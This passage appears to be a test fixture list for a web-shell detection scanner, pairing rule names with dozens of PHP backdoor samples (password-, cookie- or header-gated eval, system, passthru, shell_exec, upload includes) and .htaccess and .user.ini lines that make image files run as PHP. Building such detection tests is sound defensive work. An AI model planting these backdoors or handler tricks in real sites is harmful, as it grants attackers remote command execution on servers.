        "SPAMGEAR_INPUT_IncludeOfInput",
        padded(
            "<?php $k = isset($_COOKIE['k']) ? $_COOKIE['k'] : ''; if (substr(md5($k), 0, 8) === 'abcd1234') { include $_FILES['f']['tmp_name']; }"
        ),
        True,
    ),  # a/f13.php padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        embedded(
            "<?php $k = isset($_COOKIE['k']) ? $_COOKIE['k'] : ''; if (substr(md5($k), 0, 8) === 'abcd1234') { include $_FILES['f']['tmp_name']; }"
        ),
        True,
    ),  # a/f13.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php session_start(); if (@$_POST['pass'] == 'hunter2') { $_SESSION['ok'] = 1; } if (!empty($_SESSION['ok'])) { echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>'; }"
        ),
        True,
    ),  # a/f14.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php session_start(); if (@$_POST['pass'] == 'hunter2') { $_SESSION['ok'] = 1; } if (!empty($_SESSION['ok'])) { echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>'; }"
        ),
        True,
    ),  # a/f14.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php session_start(); if (@$_POST['pass'] == 'hunter2') { $_SESSION['ok'] = 1; } if (!empty($_SESSION['ok'])) { echo '<pre>' . shell_exec($_POST['cmd']) . '</pre>'; }"
        ),
        True,
    ),  # a/f14.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5($_POST['p']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # a/f15.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5($_POST['p']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # a/f15.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5($_POST['p']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # a/f15.php embedded
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        plain(
            "<?php $h = getallheaders(); if (isset($h['X-Key']) && $h['X-Key'] == 'Zq81') { eval(base64_decode($h['X-Cmd'])); }"
        ),
        True,
    ),  # a/f16.php
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        padded(
            "<?php $h = getallheaders(); if (isset($h['X-Key']) && $h['X-Key'] == 'Zq81') { eval(base64_decode($h['X-Cmd'])); }"
        ),
        True,
    ),  # a/f16.php padded
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        embedded(
            "<?php $h = getallheaders(); if (isset($h['X-Key']) && $h['X-Key'] == 'Zq81') { eval(base64_decode($h['X-Cmd'])); }"
        ),
        True,
    ),  # a/f16.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5(@$_SERVER['HTTP_X_TOKEN']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval(file_get_contents('php://input')); }"
        ),
        True,
    ),  # a/f17.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5(@$_SERVER['HTTP_X_TOKEN']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval(file_get_contents('php://input')); }"
        ),
        True,
    ),  # a/f17.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5(@$_SERVER['HTTP_X_TOKEN']) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { eval(file_get_contents('php://input')); }"
        ),
        True,
    ),  # a/f17.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (hash('sha256', $_POST['k']) !== 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { die(); }\n$c = $_POST['c'];\neval($c);\n"
        ),
        True,
    ),  # a/f18.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (hash('sha256', $_POST['k']) !== 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { die(); }\n$c = $_POST['c'];\neval($c);\n"
        ),
        True,
    ),  # a/f18.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (hash('sha256', $_POST['k']) !== 'a3f1c9e07b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f') { die(); }\n$c = $_POST['c'];\neval($c);\n"
        ),
        True,
    ),  # a/f18.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php function auth() { return md5(@$_COOKIE['s']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a'; } if (auth()) { $f = $_POST['f']; $f($_POST['a']); }"
        ),
        True,
    ),  # a/f19.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php function auth() { return md5(@$_COOKIE['s']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a'; } if (auth()) { $f = $_POST['f']; $f($_POST['a']); }"
        ),
        True,
    ),  # a/f19.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php function auth() { return md5(@$_COOKIE['s']) === '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a'; } if (auth()) { $f = $_POST['f']; $f($_POST['a']); }"
        ),
        True,
    ),  # a/f19.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (password_verify($_SERVER['HTTP_X_PW'] ?? '', '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { assert($_REQUEST['a']); }"
        ),
        True,
    ),  # a/f20.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (password_verify($_SERVER['HTTP_X_PW'] ?? '', '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { assert($_REQUEST['a']); }"
        ),
        True,
    ),  # a/f20.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (password_verify($_SERVER['HTTP_X_PW'] ?? '', '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { assert($_REQUEST['a']); }"
        ),
        True,
    ),  # a/f20.php embedded
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        plain(
            "<?php if ($_COOKIE['admin_token'] == 'f1x3d') { $c = base64_decode($_COOKIE['d']); $c = str_rot13($c); eval($c); }"
        ),
        True,
    ),  # a/f21.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if ($_COOKIE['admin_token'] == 'f1x3d') { $c = base64_decode($_COOKIE['d']); $c = str_rot13($c); eval($c); }"
        ),
        True,
    ),  # a/f21.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php if ($_COOKIE['admin_token'] == 'f1x3d') { $c = base64_decode($_COOKIE['d']); $c = str_rot13($c); eval($c); }"
        ),
        True,
    ),  # a/f21.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (preg_match('/^Googlebot-Img\\/9/', $ua)) { passthru($_REQUEST['q']); }"
        ),
        True,
    ),  # a/f22.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (preg_match('/^Googlebot-Img\\/9/', $ua)) { passthru($_REQUEST['q']); }"
        ),
        True,
    ),  # a/f22.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (preg_match('/^Googlebot-Img\\/9/', $ua)) { passthru($_REQUEST['q']); }"
        ),
        True,
    ),  # a/f22.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
        ),
        True,
    ),  # a/f23.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
        ),
        True,
    ),  # a/f23.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php $p = @$_GET['pass']; if (isset($p) && md5($p) == '9b1c6f0e4a7d2e8c3f5a6b7c8d9e0f1a') { echo '<form method=post><input name=c><input type=submit></form>'; if (isset($_POST['c'])) system($_POST['c']); }"
        ),
        True,
    ),  # a/f23.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (sha1(md5($_POST['k'])) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { $cmd = $_POST['cmd']; $out = array(); exec($cmd, $out); echo implode(\"\\n\", $out); }"
        ),
        True,
    ),  # a/f24.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (sha1(md5($_POST['k'])) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { $cmd = $_POST['cmd']; $out = array(); exec($cmd, $out); echo implode(\"\\n\", $out); }"
        ),
        True,
    ),  # a/f24.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (sha1(md5($_POST['k'])) == '3c0a7d4e9b2f1a8c6e5d4c3b2a1f0e9d8c7b6a59') { $cmd = $_POST['cmd']; $out = array(); exec($cmd, $out); echo implode(\"\\n\", $out); }"
        ),
        True,
    ),  # a/f24.php embedded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .jpg .gif\n"),
        True,
    ),  # a/h01.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .jpg .gif\n"),
        True,
    ),  # a/h01.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "\\.(jpg|png)$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'),
        True,
    ),  # a/h02.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<FilesMatch "\\.(jpg|png)$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'),
        True,
    ),  # a/h02.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<Files "avatar.jpg">\n  ForceType application/x-httpd-php\n</Files>\n'),
        True,
    ),  # a/h03.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<Files "avatar.jpg">\n  ForceType application/x-httpd-php\n</Files>\n'),
        True,
    ),  # a/h03.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler application/x-httpd-lsphp .gif\n"),
        True,
    ),  # a/h04.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler application/x-httpd-lsphp .gif\n"),
        True,
    ),  # a/h04.htaccess padded
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("AddHandler x-httpd-php5 .txt\n"), True),  # a/h05.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler x-httpd-php5 .txt\n"),
        True,
    ),  # a/h05.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file "/home/user/public_html/images/logo.gif"\n'),
        True,
    ),  # a/h06.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file "/home/user/public_html/images/logo.gif"\n'),
        True,
    ),  # a/h06.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("php_value auto_append_file /tmp/.x\n"),
        True,
    ),  # a/h07.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("php_value auto_append_file /tmp/.x\n"),
        True,
    ),  # a/h07.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            "<Files ~ \"^\\.ht\">\n  Require all granted\n</Files>\nAddType application/x-httpd-php .htaccess\n# <?php echo shell_exec($_GET['c']); ?>\n"
        ),
        True,
    ),  # a/h08.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            "<Files ~ \"^\\.ht\">\n  Require all granted\n</Files>\nAddType application/x-httpd-php .htaccess\n# <?php echo shell_exec($_GET['c']); ?>\n"
        ),
        True,
    ),  # a/h08.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("Options +ExecCGI\nAddHandler cgi-script .jpg .png\n"),
        True,
    ),  # a/h09.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("Options +ExecCGI\nAddHandler cgi-script .jpg .png\n"),
        True,
    ),  # a/h09.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            '<FilesMatch "\\.(?:gif|ico)$">\n  SetHandler "proxy:unix:/run/php/php7.4-fpm.sock|fcgi://localhost"\n</FilesMatch>\n'
        ),
        True,
    ),  # a/h10.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "\\.(?:gif|ico)$">\n  SetHandler "proxy:unix:/run/php/php7.4-fpm.sock|fcgi://localhost"\n</FilesMatch>\n'
        ),
        True,
    ),  # a/h10.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php7 .ico\n"),
        True,
    ),  # a/h11.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php7 .ico\n"),
        True,
    ),  # a/h11.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("<IfModule mod_mime.c>\nAddHandler application/x-httpd-ea-php74 .png\n</IfModule>\n"),
        True,
    ),  # a/h12.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("<IfModule mod_mime.c>\nAddHandler application/x-httpd-ea-php74 .png\n</IfModule>\n"),
        True,
    ),  # a/h12.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType  application/x-httpd-php   .php .htm .html .shtml .jpg\n"),
        True,
    ),  # a/h13.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType  application/x-httpd-php   .php .htm .html .shtml .jpg\n"),
        True,
    ),  # a/h13.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "^(thumb|logo)\\.jpg$">\nSetHandler php-script\n</FilesMatch>\n'),
        True,
    ),  # a/h14.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<FilesMatch "^(thumb|logo)\\.jpg$">\nSetHandler php-script\n</FilesMatch>\n'),
        True,
    ),  # a/h14.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("php_value auto_prepend_file 'wp-content/uploads/2021/03/favicon.ico'\n"),
        True,
    ),  # a/h15.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("php_value auto_prepend_file 'wp-content/uploads/2021/03/favicon.ico'\n"),
        True,
    ),  # a/h15.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler php-script .xyz .gif\nAction php-script /cgi-bin/php\n"),
        True,
    ),  # a/h16.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler php-script .xyz .gif\nAction php-script /cgi-bin/php\n"),
        True,
    ),  # a/h16.htaccess padded
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file=images/x.gif\n"), True),  # a/i01.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file=images/x.gif\n"),
        True,
    ),  # a/i01.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2020/01/a.ico"\n'),
        True,
    ),  # a/i02.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2020/01/a.ico"\n'),
        True,
    ),  # a/i02.user.ini padded
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_append_file=/dev/shm/.s\n"), True),  # a/i03.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_append_file=/dev/shm/.s\n"),
        True,
    ),  # a/i03.user.ini padded
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file=.cache\n"), True),  # a/i04.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file=.cache\n"),
        True,
    ),  # a/i04.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file="data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"\n'),
        True,
    ),  # a/i06.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file="data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"\n'),
        True,
    ),  # a/i06.user.ini padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php $p = $_GET['p'] ?? ''; if (md5($p) !== '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') exit; echo `{$_GET['c']}`;"
        ),
        True,
    ),  # b/g01.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php $p = $_GET['p'] ?? ''; if (md5($p) !== '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') exit; echo `{$_GET['c']}`;"
        ),
        True,
    ),  # b/g01.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php $p = $_GET['p'] ?? ''; if (md5($p) !== '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') exit; echo `{$_GET['c']}`;"
        ),
        True,
    ),  # b/g01.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (hash('sha512', $_COOKIE['t']) == '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1ff1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e4') { eval(gzinflate(base64_decode($_COOKIE['b']))); }"
        ),
        True,
    ),  # b/g02.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (hash('sha512', $_COOKIE['t']) == '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1ff1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e4') { eval(gzinflate(base64_decode($_COOKIE['b']))); }"
        ),
        True,
    ),  # b/g02.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (hash('sha512', $_COOKIE['t']) == '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1ff1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e4') { eval(gzinflate(base64_decode($_COOKIE['b']))); }"
        ),
        True,
    ),  # b/g02.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (isset($_SERVER['HTTP_X_FORWARDED_HOST']) && md5($_SERVER['HTTP_X_FORWARDED_HOST']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # b/g03.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (isset($_SERVER['HTTP_X_FORWARDED_HOST']) && md5($_SERVER['HTTP_X_FORWARDED_HOST']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # b/g03.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (isset($_SERVER['HTTP_X_FORWARDED_HOST']) && md5($_SERVER['HTTP_X_FORWARDED_HOST']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { system($_SERVER['HTTP_X_CMD']); }"
        ),
        True,
    ),  # b/g03.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php $auth = '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'; if (md5($_POST['pass']) == $auth) { @eval(base64_decode($_POST['code'])); }"
        ),
        True,
    ),  # b/g04.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php $auth = '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'; if (md5($_POST['pass']) == $auth) { @eval(base64_decode($_POST['code'])); }"
        ),
        True,
    ),  # b/g04.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php $auth = '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'; if (md5($_POST['pass']) == $auth) { @eval(base64_decode($_POST['code'])); }"
        ),
        True,
    ),  # b/g04.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (!empty($_COOKIE['wp_sess']) && crc32($_COOKIE['wp_sess']) == 3735928559) { eval(base64_decode($_POST['d'])); }"
        ),
        True,
    ),  # b/g05.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (!empty($_COOKIE['wp_sess']) && crc32($_COOKIE['wp_sess']) == 3735928559) { eval(base64_decode($_POST['d'])); }"
        ),
        True,
    ),  # b/g05.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (!empty($_COOKIE['wp_sess']) && crc32($_COOKIE['wp_sess']) == 3735928559) { eval(base64_decode($_POST['d'])); }"
        ),
        True,
    ),  # b/g05.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == 'x-bot' && isset($_REQUEST['c'])) { echo '<pre>'; passthru($_REQUEST['c']); }"
        ),
        True,
    ),  # b/g06.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == 'x-bot' && isset($_REQUEST['c'])) { echo '<pre>'; passthru($_REQUEST['c']); }"
        ),
        True,
    ),  # b/g06.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if ($_SERVER['HTTP_USER_AGENT'] == 'x-bot' && isset($_REQUEST['c'])) { echo '<pre>'; passthru($_REQUEST['c']); }"
        ),
        True,
    ),  # b/g06.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (stripos(@$_SERVER['HTTP_USER_AGENT'], 'curl/7.') === 0 && isset($_POST['x'])) { @eval($_POST['x']); }"
        ),
        True,
    ),  # b/g07.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (stripos(@$_SERVER['HTTP_USER_AGENT'], 'curl/7.') === 0 && isset($_POST['x'])) { @eval($_POST['x']); }"
        ),
        True,
    ),  # b/g07.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (stripos(@$_SERVER['HTTP_USER_AGENT'], 'curl/7.') === 0 && isset($_POST['x'])) { @eval($_POST['x']); }"
        ),
        True,
    ),  # b/g07.php embedded
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        plain(
            "<?php define('PASS', '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'); if (md5(@$_REQUEST['pw']) != PASS) { header('HTTP/1.0 404 Not Found'); exit; } $c = $_REQUEST['c']; system($c);"
        ),
        True,
    ),  # b/g08.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php define('PASS', '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'); if (md5(@$_REQUEST['pw']) != PASS) { header('HTTP/1.0 404 Not Found'); exit; } $c = $_REQUEST['c']; system($c);"
        ),
        True,
    ),  # b/g08.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php define('PASS', '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b'); if (md5(@$_REQUEST['pw']) != PASS) { header('HTTP/1.0 404 Not Found'); exit; } $c = $_REQUEST['c']; system($c);"
        ),
        True,
    ),  # b/g08.php embedded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        plain(
            "<?php if (password_verify($_COOKIE['k'] ?? '', '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { include $_FILES['x']['tmp_name']; }"
        ),
        True,
    ),  # b/g09.php
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        padded(
            "<?php if (password_verify($_COOKIE['k'] ?? '', '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { include $_FILES['x']['tmp_name']; }"
        ),
        True,
    ),  # b/g09.php padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        embedded(
            "<?php if (password_verify($_COOKIE['k'] ?? '', '$2y$10$abcdefghijklmnopqrstuuJb0yZ2S0mQ7m5Yb0QnZ6sJcXk9p1y6')) { include $_FILES['x']['tmp_name']; }"
        ),
        True,
    ),  # b/g09.php embedded
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        plain(
            "<?php $h = apache_request_headers(); if (($h['Authorization'] ?? '') === 'Bearer s3cr3t') { echo shell_exec($h['X-Run']); }"
        ),
        True,
    ),  # b/g10.php
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        padded(
            "<?php $h = apache_request_headers(); if (($h['Authorization'] ?? '') === 'Bearer s3cr3t') { echo shell_exec($h['X-Run']); }"
        ),
        True,
    ),  # b/g10.php padded
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        embedded(
            "<?php $h = apache_request_headers(); if (($h['Authorization'] ?? '') === 'Bearer s3cr3t') { echo shell_exec($h['X-Run']); }"
        ),
        True,
    ),  # b/g10.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (hash_hmac('sha256', $_GET['t'], 'k') === '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f') { assert($_POST['a']); }"
        ),
        True,
    ),  # b/g11.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (hash_hmac('sha256', $_GET['t'], 'k') === '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f') { assert($_POST['a']); }"
        ),
        True,
    ),  # b/g11.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (hash_hmac('sha256', $_GET['t'], 'k') === '4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f') { assert($_POST['a']); }"
        ),
        True,
    ),  # b/g11.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain("<?php if (isset($_GET['0xdead'])) { $f = $_GET['0xdead']; @$f($_GET['a']); }"),
        True,
    ),  # b/g12.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php if (isset($_GET['0xdead'])) { $f = $_GET['0xdead']; @$f($_GET['a']); }"),
        True,
    ),  # b/g12.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded("<?php if (isset($_GET['0xdead'])) { $f = $_GET['0xdead']; @$f($_GET['a']); }"),
        True,
    ),  # b/g12.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5($_SERVER['HTTP_USER_AGENT']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { eval($_POST['e']); }"
        ),
        True,
    ),  # b/g13.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5($_SERVER['HTTP_USER_AGENT']) == '0d3f9a7b1c2e4d5f6a7b8c9d0e1f2a3b') { eval($_POST['e']); }"
        ),
        True,
    ),  # b/g13.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
